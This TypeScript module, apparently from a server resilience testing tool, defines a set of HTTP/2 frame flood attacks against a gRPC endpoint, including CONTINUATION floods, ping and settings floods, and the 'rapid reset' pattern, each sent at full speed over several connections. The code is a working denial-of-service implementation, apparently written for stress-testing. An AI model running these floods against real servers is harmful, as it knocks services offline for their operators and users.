import type { Attack, Strike } from '../attack.js';
import { lanes } from '../pace.js';
import { Tally } from '../tally.js';
import { callHeaders, FLAG, FRAME, frame, headerBlock, setting, uint32 } from '../wire/frames.js';
import { RawConnection } from '../wire/raw-connection.js';
import { ADS } from '../wire/services.js';

/** Bytes that go out in one write. */
const BLOCK = 16 * 1_024;
const PATH = `${ADS}/DeltaAggregatedResources`;

interface Flood {
  /** Frames before the flood. */
  readonly first?: () => Buffer;
  /** One frame of the flood or a few; `n` counts them on a connection. */
  readonly next: (n: number) => Buffer;
  readonly connections?: number;
  /** Whether the attacker reads the answers. */
  readonly reads?: boolean;
}

/** Frames at full speed; a connection that the server closes is followed by the next one. */
function flood({ first, next, connections = 2, reads = true }: Flood): Strike {
  return async (target, signal, tell) => {
    const ends = new Tally();
    let frames = 0;
    tell(() => `${frames} frames; connections ended: ${ends}`);
    await lanes(connections, signal, async () => {
      const connection = new RawConnection(target, { reads });
      await connection.begin();
      if (first !== undefined) await connection.write(first());
      for (let n = 0; !signal.aborted; ) {
        const parts: Buffer[] = [];
        for (let bytes = 0; bytes < BLOCK; n += 1) {
          const part = next(n);
          bytes += part.length;
          parts.push(part);
        }
        if (!(await connection.write(Buffer.concat(parts)))) break;
        frames += parts.length;
        await new Promise(setImmediate);
      }
      if (!signal.aborted) ends.add(connection.closed ?? 'stalled');
      connection.close();
    });
  };
}

const CALL = callHeaders(PATH);
const OPEN = frame(FRAME.headers, FLAG.endHeaders, 1, CALL);
const PING = frame(FRAME.ping, 0, 0, Buffer.alloc(8));
const streamOf = (n: number) => 1 + 2 * n;

const FLOODS: Readonly<Record<string, Flood>> = {
  'headers continued without an end': {
    first: () => frame(FRAME.headers, 0, 1, CALL),
    next: (n) => frame(FRAME.continuation, 0, 1, headerBlock([[`x-${n}`, 'y'.repeat(1_000)]])),
  },
  'empty continuations of headers': {
    first: () => frame(FRAME.headers, 0, 1, CALL),
    next: () => frame(FRAME.continuation, 0, 1),
  },
  pings: { next: () => PING },
  'pings whose answers nobody reads': { reads: false, next: () => PING },
  settings: { next: (n) => frame(FRAME.settings, 0, 0, setting(4, 65_535 + (n % 2))) },
  'empty data': { first: () => OPEN, next: () => frame(FRAME.data, 0, 1) },
  'data of one byte': { first: () => OPEN, next: () => frame(FRAME.data, 0, 1, Buffer.alloc(1)) },
  priorities: {
    first: () => OPEN,
    next: (n) => frame(FRAME.priority, 0, streamOf(n % 1_000), Buffer.alloc(5)),
  },
  'window updates': { first: () => OPEN, next: (n) => frame(FRAME.windowUpdate, 0, n % 2, uint32(1)) },
  'frames of unknown types': { next: () => frame(FRAME.unknown, 0, 0, Buffer.alloc(100)) },
  'rapid reset': {
    next: (n) =>
      Buffer.concat([
        frame(FRAME.headers, FLAG.endHeaders, streamOf(n), CALL),
        frame(FRAME.reset, 0, streamOf(n), uint32(8)),
      ]),
  },
  'streams that break the protocol': {
    next: (n) =>
      Buffer.concat([
        frame(FRAME.headers, FLAG.endHeaders, streamOf(n), CALL),
        // A window of more than 2^31 makes the server reset the stream.
        frame(FRAME.windowUpdate, 0, streamOf(n), uint32(2 ** 31 - 1)),
      ]),
  },
};

export const FRAMES: readonly Attack[] = Object.entries(FLOODS).map(([name, frames]) => ({
  name: `HTTP/2: ${name}`,
  strike: flood(frames),
  seconds: 3,
}));
